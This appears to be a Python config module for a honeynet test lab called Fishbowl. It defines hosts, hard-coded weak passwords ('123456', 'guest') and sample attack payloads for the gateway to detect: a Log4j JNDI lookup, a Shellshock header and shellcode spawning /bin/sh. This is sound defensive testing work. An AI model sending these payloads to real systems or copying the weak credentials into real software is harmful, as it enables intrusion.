# SPDX-License-Identifier: Apache-2.0
"""The lab's plan: who is in it, with which addresses, daemons and weak accounts. Nothing here acts."""
import os
import sys
from dataclasses import dataclass, field

PREFIX = os.environ.get("FISHBOWL_LAB_PREFIX", "fb-lab-")
STATE = os.environ.get("FISHBOWL_LAB_DIR", "/var/lib/fishbowl-lab")
CACHE = os.environ.get("FISHBOWL_LAB_CACHE", "/var/cache/fishbowl-lab")

# What the hosts run. They get it from Debian packages unpacked into a tree of the lab's own, so that
# no daemon is ever installed on, enabled on or started by the machine itself.
PACKAGES = ["openssh-server", "openssh-client", "vsftpd", "inetutils-telnetd", "lighttpd", "nmap",
	"hping3", "wget", "curl", "iputils-ping", "iproute2", "procps", "python3"]

ROOT_PASSWORD = "123456"
GUEST = ("guest", "guest")
# crypt(3) of the two passwords above. They guard nothing: a lab has no way out of this machine.
HASH = {
	"123456": "$6$fishbowllab$1TSAVTAEWC8Su68ujSzH.IUbvcT3unW8Mofn1VI0TwpJNLcQFtjVvKapHoYx0wDdP363"
		"H8m8ksJx1Z3CxBaEp/",
	"guest": "$6$fishbowllab$yq5RUMhb9txRJTSkR0XT7/odpj4kXIffsWPFR5DE2vZbZuZwTehf6KLeAV944Vlj73Hb52"
		"y7KqH3J.iHkFDag0",
}


@dataclass(frozen=True)
class Host:
	name: str
	number: int
	services: tuple
	honeypot: bool = False
	text: str = field(default="")

	@property
	def ip4(self):
		return f"192.0.2.{self.number}"

	@property
	def ip6(self):
		return f"2001:db8:0:1::{self.number}"

	@property
	def mac(self):
		return f"02:fb:00:00:00:{self.number:02d}"

	@property
	def netns(self):
		return PREFIX + self.name


HOSTS = [
	Host("attacker", 66, ("toolshop",), text="the intruder's machine; serves tools at port 80"),
	Host("victim", 80, ("target",), text="somebody else's machine outside; counts what arrives"),
	Host("web", 11, ("ssh", "web"), True, "honeypot: lighttpd, openssh"),
	Host("files", 12, ("ssh", "ftp"), True, "honeypot: vsftpd, openssh"),
	Host("old", 13, ("ssh", "telnet"), True, "honeypot: telnetd, openssh"),
]
HONEYPOTS = [h for h in HOSTS if h.honeypot]
OUTSIDERS = [h for h in HOSTS if not h.honeypot]
GATEWAY = PREFIX + "gateway"
STREET = PREFIX + "street"  # the segment outside: one switch
BY_NAME = {h.name: h for h in HOSTS}

# What leaves and is disarmed: (name, server's port, bytes sent, the part that carries the attack).
# The last one has the bytes of Figure 3 of the article on the Honeynet's GenII, at another port: DNS goes to
# resolvers only.
EXPLOITS = [
	("Log4j", 80, b"GET / HTTP/1.1\r\nHost: victim\r\nUser-Agent: ${jndi:ldap://192.0.2.66/a}\r\n\r\n",
		b"${jndi:ldap://"),
	("Shellshock", 80, b"GET /cgi-bin/status HTTP/1.1\r\nHost: victim\r\nUser-Agent: () { :;}; /bin/id\r\n\r\n",
		b"() { :;};"),
	("shellcode", 443, b"\x00\x40query\xcd\x80\xe8\xd7\xff\xff\xff/bin/sh\x00", b"\xff\xff\xff/bin/sh"),
]
LIMITS = {"tcp": 10, "udp": 20, "icmp": 20, "other": 5}


def host(name):
	if name not in BY_NAME:
		raise SystemExit(f"fishbowl lab: no host '{name}'; there are {', '.join(BY_NAME)}")
	return BY_NAME[name]


def path(*parts):
	return os.path.join(STATE, *parts)


def rules():
	"""The rules that come with Fishbowl: beside the lab's script in a build tree, else where they are installed."""
	here = os.path.dirname(os.path.realpath(sys.argv[0]))
	for place in ("", "../../share/fishbowl/rules"):
		candidate = os.path.normpath(os.path.join(here, place, "outbound.rules"))
		if os.path.exists(candidate):
			return candidate
	raise SystemExit("fishbowl lab: outbound.rules is not there; install Fishbowl again")


def gateway_config():
	nics = ", ".join(f'"{h.name}"' for h in HONEYPOTS)
	lines = ["# Made by `fishbowl lab up`.", 'outside = "outside"', f"inside = {{{nics}}}",
		'honeynet = "lab"', f'state_dir = "{path("gateway", "state")}"',
		f'run_dir = "{path("gateway", "run")}"', f'eve_file = "{path("gateway", "eve.json")}"',
		f'rules = {{"{rules()}"}}', "syslog = false", 'capture { budget = "2G" }']
	lines += [f'honeypot "{h.name}" {{ address = {{"{h.ip4}", "{h.ip6}"}} mac = "{h.mac}" }}'
		for h in HONEYPOTS]
	return "\n".join(lines) + "\n"
